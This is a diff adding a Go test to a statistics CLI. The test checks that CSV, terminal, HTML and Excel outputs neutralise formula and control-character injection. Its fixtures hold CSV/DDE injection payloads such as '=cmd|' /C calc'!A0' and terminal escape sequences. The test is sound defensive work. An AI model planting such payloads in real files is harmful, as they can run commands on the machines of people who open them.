@@ -2,17 +2,24 @@ package main
 
 import (
 	"bytes"
+	"encoding/csv"
+	"encoding/xml"
 	"errors"
+	"fmt"
+	"io"
 	"io/fs"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"regexp"
+	"strconv"
 	"strings"
 	"syscall"
 	"testing"
 	"time"
 
 	"github.com/spf13/cobra"
+	"github.com/xuri/excelize/v2"
 
 	"github.com/fickfit/fickfit/internal/parallel"
 	"github.com/fickfit/fickfit/report"
@@ -520,5 +527,142 @@ func TestRuntimeCrashIsNotExit2(t *testing.T) {
 	}
 	if !strings.Contains(stderr.String(), "planted crash") {
 		t.Errorf("the crash's message is missing: %.200q", stderr.String())
+	}
+}
+
+// injectedCoupons writes three demo coupons whose ids and lots carry what
+// a spreadsheet or a terminal would act on, and ids that sanitise alike.
+func injectedCoupons(t *testing.T, dir string) (string, []string) {
+	t.Helper()
+	c := filepath.Join(dir, "coupons")
+	mustDo(t, os.MkdirAll(c, 0o755))
+	ids := []string{`=HYPERLINK("http://example.invalid/?"&A1,"open")`, "A 1", "A_1", "A/1", "@SUM(1+1)*cmd|' /C calc'!A0", "\x1b]0;pwned\x07\x1b[2J-x"}
+	src := []string{"F7-2291-880-1.csv", "F7-2291-910-1.csv", "F7-2291-940-1.csv", "F7-2291-970-1.csv", "F7-2291-880-2.csv", "F7-2291-910-2.csv"}
+	for i, id := range ids {
+		b, err := os.ReadFile(filepath.Join(demoDir, "coupons", src[i]))
+		mustDo(t, err)
+		lines := strings.SplitN(string(b), "\n", 4)
+		lines[0] = "# id: " + id
+		lines[2] = "# lot: =cmd|' /C calc'!A0"
+		mustDo(t, os.WriteFile(filepath.Join(c, fmt.Sprintf("c%d.csv", i)), []byte(strings.Join(lines, "\n")), 0o644))
+	}
+	return c, ids
+}
+
+// TestNoInjection: text from the inputs cannot run as a formula in the
+// CSV files nor act on a terminal, and HTML anchors stay unique (common
+// practice, no source; OWASP "CSV Injection").
+func TestNoInjection(t *testing.T) {
+	dir := t.TempDir()
+	coupons, ids := injectedCoupons(t, dir)
+	code, out, stderr := runCLI(t, "fit", coupons, "--ci", "wald", "--format", "csv")
+	if code != 0 {
+		t.Fatalf("fit csv: exit %d: %s", code, stderr)
+	}
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	mustDo(t, err)
+	negative := false
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell == "" {
+				continue
+			}
+			if _, err := strconv.ParseFloat(cell, 64); err == nil {
+				negative = negative || cell[0] == '-'
+				continue
+			}
+			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("column %s: cell %q would run as a formula", rows[0][i], cell)
+			}
+		}
+		if row[1] != "'=cmd|' /C calc'!A0" {
+			t.Errorf("lot cell %q, want it with a leading apostrophe", row[1])
+		}
+	}
+	if !strings.Contains(out, `"'=HYPERLINK(""http://example.invalid/?""&A1,""open"")"`) {
+		t.Errorf("the id is not kept as text with an apostrophe:\n%s", out)
+	}
+	if !negative {
+		t.Error("no negative number in the CSV: the case no longer checks that negative numbers stay numbers")
+	}
+	code, text, stderr := runCLI(t, "fit", coupons, "--ci", "wald")
+	if code != 0 {
+		t.Fatalf("fit text: exit %d: %s", code, stderr)
+	}
+	if strings.ContainsAny(text, "\x1b\x07\r") || !strings.Contains(text, `\x1b]0;pwned\x07\x1b[2J-x`) {
+		t.Errorf("control characters reach the terminal raw, or the id is not shown escaped")
+	}
+	// The campaign: results.csv and residuals.csv neutralised, summary.txt
+	// escaped, one anchor per profile and each link to its own profile.
+	out = filepath.Join(dir, "R")
+	code, summary, stderr := runCLI(t, campaignArgs(coupons, out)...)
+	if code != 0 {
+		t.Fatalf("campaign: exit %d: %s", code, stderr)
+	}
+	if strings.ContainsAny(summary, "\x1b\x07") {
+		t.Error("the campaign's terminal summary holds raw control characters")
+	}
+	svgs, _ := filepath.Glob(filepath.Join(out, "figures", "*.svg"))
+	for _, f := range svgs {
+		b, _ := os.ReadFile(f)
+		dec := xml.NewDecoder(bytes.NewReader(b))
+		for {
+			if _, err := dec.Token(); err == io.EOF {
+				break
+			} else if err != nil {
+				t.Errorf("%s is not well-formed XML: %v", filepath.Base(f), err)
+				break
+			}
+		}
+	}
+	for _, f := range []string{"results.csv", "residuals.csv", "summary.txt", "report.html"} {
+		b, _ := os.ReadFile(filepath.Join(out, f))
+		if bytes.ContainsAny(b, "\x1b\x07") {
+			t.Errorf("%s holds raw control characters", f)
+		}
+		if strings.HasSuffix(f, ".csv") && (bytes.Contains(b, []byte("\n=")) || bytes.Contains(b, []byte(",="))) {
+			t.Errorf("%s has a cell starting with =", f)
+		}
+	}
+	// The workbook holds the ids as text cells and not one formula.
+	book, err := excelize.OpenFile(filepath.Join(out, "results.xlsx"))
+	mustDo(t, err)
+	defer book.Close()
+	found := map[string]bool{}
+	for _, sheet := range book.GetSheetList() {
+		rows, err := book.GetRows(sheet)
+		mustDo(t, err)
+		for r, row := range rows {
+			for c, v := range row {
+				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
+				if f, _ := book.GetCellFormula(sheet, ref); f != "" {
+					t.Errorf("%s!%s holds the formula %q", sheet, ref, f)
+				}
+				found[v] = true
+			}
+		}
+	}
+	for _, id := range ids[:5] {
+		if !found[id] {
+			t.Errorf("the workbook does not hold the id %q as text", id)
+		}
+	}
+	html, _ := os.ReadFile(filepath.Join(out, "report.html"))
+	anchors := regexp.MustCompile(`<article class="profile" id="([^"]+)">\s*<h3>([^<]*)`).FindAllSubmatch(html, -1)
+	if len(anchors) != len(ids) {
+		t.Fatalf("%d profile articles, want %d", len(anchors), len(ids))
+	}
+	seen := map[string]string{}
+	for _, a := range anchors {
+		id, heading := string(a[1]), string(a[2])
+		if other, dup := seen[id]; dup {
+			t.Errorf("anchor %q used by %q and %q", id, other, heading)
+		}
+		seen[id] = heading
+		// The summary's link to this anchor names the same profile.
+		link := regexp.MustCompile(`<a href="#` + regexp.QuoteMeta(id) + `">([^<]*)</a>`).FindSubmatch(html)
+		if link == nil || !strings.Contains(heading, string(link[1])) {
+			t.Errorf("the link to #%s does not name the profile of that anchor (%q)", id, heading)
+		}
 	}
 }
